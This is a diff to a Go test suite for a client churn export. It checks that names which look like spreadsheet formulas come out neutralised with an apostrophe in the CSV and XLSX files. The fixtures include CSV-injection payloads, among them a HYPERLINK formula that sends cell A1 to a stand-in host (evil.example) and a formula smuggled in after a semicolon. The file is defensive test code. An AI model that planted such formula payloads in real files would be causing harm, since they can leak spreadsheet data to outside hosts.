@@ -5,6 +5,7 @@ import (
 	"context"
 	"encoding/csv"
 	"encoding/json"
+	"regexp"
 	"strconv"
 	"strings"
 	"testing"
@@ -20,7 +21,33 @@ import (
 
 // formulaNames are legal names a client may have that a spreadsheet would
 // run as formulas if written as they are.
-var formulaNames = []string{`=HYPERLINK("https://evil.example/?x="&A1,"Open")`, "+1+1", "-2+3", "@SUM(A1:A2)"}
+var formulaNames = []string{`=HYPERLINK("https://evil.example/?x="&A1,"Open")`, "+1+1", "-2+3", "@SUM(A1:A2)",
+	`ACME;=HYPERLINK("https://evil.example/","Open")`, `ЕТ Иван Петров; "+7 (495)"`}
+
+// formulaSafe are formulaNames as the exports write them: an apostrophe
+// before whatever a spreadsheet would run, at the start or after a semicolon
+// (where Excel in Bulgarian, Romanian or Russian splits a CSV line).
+var formulaSafe = []string{`'=HYPERLINK("https://evil.example/?x="&A1,"Open")`, "'+1+1", "'-2+3", "'@SUM(A1:A2)",
+	`ACME;'=HYPERLINK("https://evil.example/","Open")`, `ЕТ Иван Петров; "'+7 (495)"`}
+
+// readCSV reads a people's CSV export, which starts with a UTF-8 byte order
+// mark so that Excel shows Cyrillic names as they are.
+func readCSV(t *testing.T, b []byte) [][]string {
+	t.Helper()
+	if !bytes.HasPrefix(b, []byte("\xef\xbb\xbf")) {
+		t.Fatalf("the CSV does not start with a UTF-8 byte order mark: %q", b[:min(len(b), 20)])
+	}
+	// No semicolon is followed by something a spreadsheet would run, and
+	// every value with a semicolon is quoted.
+	if m := regexp.MustCompile(`;[ "]*[=+\-@]`).Find(b); m != nil {
+		t.Fatalf("the CSV holds %q, which Excel with semicolons would run", m)
+	}
+	rows, err := csv.NewReader(bytes.NewReader(b[3:])).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	return rows
+}
 
 // nameFormulaClients renames the four riskiest warned clients of v after
 // formulaNames and returns their ids in that order.
@@ -28,7 +55,7 @@ func nameFormulaClients(t *testing.T, pool *pgxpool.Pool) []int64 {
 	t.Helper()
 	ctx := context.Background()
 	var ids []int64
-	rows, err := pool.Query(ctx, `SELECT client_id FROM client_warning ORDER BY score DESC, client_id LIMIT 4`)
+	rows, err := pool.Query(ctx, `SELECT client_id FROM client_warning ORDER BY score DESC, client_id LIMIT $1`, len(formulaNames))
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -135,10 +162,7 @@ func TestChurnExportIsTheListInBothFormats(t *testing.T) {
 			if n, err := exports.Churn(ctx, pool, risk, &xlsxOut, exports.ChurnOptions{Filter: tc.filter, Format: exports.XLSX}); err != nil || n != int64(len(want)) {
 				t.Fatalf("XLSX: %d rows (%v), the list has %d", n, err, len(want))
 			}
-			got, err := csv.NewReader(&csvOut).ReadAll()
-			if err != nil {
-				t.Fatal(err)
-			}
+			got := readCSV(t, csvOut.Bytes())
 			if strings.Join(got[0], ",") != strings.Join(exports.ChurnHeader, ",") {
 				t.Fatalf("CSV header %v", got[0])
 			}
@@ -148,8 +172,10 @@ func TestChurnExportIsTheListInBothFormats(t *testing.T) {
 			for i, w := range want {
 				r := got[i+1]
 				wantName := w.ClientName
-				if strings.ContainsAny(wantName[:1], "=+-@") {
-					wantName = "'" + wantName
+				for k, f := range formulaNames {
+					if wantName == f {
+						wantName = formulaSafe[k]
+					}
 				}
 				clv := ""
 				if w.CLV != nil {
@@ -204,7 +230,7 @@ func TestChurnExportIsTheListInBothFormats(t *testing.T) {
 	if _, err := exports.Churn(ctx, pool, risk, &xlsxOut, exports.ChurnOptions{Format: exports.XLSX}); err != nil {
 		t.Fatal(err)
 	}
-	got, _ := csv.NewReader(&csvOut).ReadAll()
+	got := readCSV(t, csvOut.Bytes())
 	x := readXLSX(t, xlsxOut.Bytes())
 	byID := map[string]int{}
 	for i, r := range got {
@@ -215,7 +241,7 @@ func TestChurnExportIsTheListInBothFormats(t *testing.T) {
 		if !ok {
 			t.Fatalf("client %d is not in the export", id)
 		}
-		want := "'" + formulaNames[k]
+		want := formulaSafe[k]
 		if got[i][col["client_name"]] != want || x[i][col["client_name"]] != want {
 			t.Errorf("client %d: CSV %q, XLSX %q, want %q", id, got[i][col["client_name"]], x[i][col["client_name"]], want)
 		}
